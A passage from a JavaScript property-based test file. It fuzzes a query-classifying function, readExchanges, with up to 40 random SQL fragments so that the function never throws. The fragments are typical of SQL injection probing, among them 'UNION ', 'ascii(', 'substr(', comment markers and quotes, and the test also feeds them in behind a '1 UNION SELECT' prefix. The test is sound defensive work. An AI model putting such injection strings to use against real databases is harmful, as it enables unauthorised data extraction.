    expect(of(members, staff)).toEqual([['exact', 'customers']]);
    expect(of(staff)).toEqual([['approx', 'staff']]);
  });

  it('never throws, whatever stands in a request', () => {
    const piece = fc.constantFrom(
      'SELECT ',
      'UNION ',
      'FROM ',
      '(',
      ')',
      "'",
      '"',
      ',',
      'email',
      ' members ',
      'LIMIT ',
      '1',
      ' AND ',
      'OR ',
      'CASE WHEN ',
      'END ',
      '>',
      '=',
      'LIKE ',
      "'a%'",
      'ascii(',
      'substr(',
      '/*',
      '*/',
      '--',
      ';',
      'NOT ',
      'IN ',
      'BETWEEN ',
      'ORDER BY ',
      '::',
      '.',
      '`',
      '[',
      ']',
      '~',
      '*',
      'OVER ',
      'TOP ',
      'OFFSET ',
      'FETCH ',
      '%',
      '日本',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        readExchanges([shown(pieces.join('')), shown(`1 UNION SELECT ${pieces.join('')}`)]);
      }),
      { numRuns: 1500 },
    );
  });
});
